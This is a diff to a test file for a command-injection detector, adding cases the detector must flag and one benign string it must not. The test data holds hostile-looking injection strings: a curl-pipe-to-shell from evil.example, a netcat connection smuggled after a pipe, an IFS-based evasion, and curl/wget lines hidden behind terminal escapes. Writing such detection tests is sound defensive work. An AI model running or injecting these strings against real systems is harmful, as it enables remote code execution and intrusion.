@@ -38,6 +38,8 @@ test('detects commands after separators, substitutions and evasions', () => {
     'who^ami & ver',
     'x & nslookup abc.oast.example &',
     'x; curl evil.example/x.sh | sh',
+    ';echo${IFS}vulnerable',
+    '127.0.0.1|busybox nc 10.0.0.1 80',
     'x\\n\\033[2Acurl https://evil.example/x.sh',
     'x\n\u001b[1;31mwget http://evil.example/a',
   ];
@@ -90,6 +92,7 @@ test('does not flag benign text, code spans and ordinary field values', () => {
     'which Node.js versions provide a given Node-API version',
     'you must run `node --http-parser=legacy` to monkey-patch',
     'a pattern like `x:/*` or `//host/share/*` will match',
+    'Set $IFS in your shell profile',
   ];
   for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
   // paranoia 2 adds the looser start-of-value rule
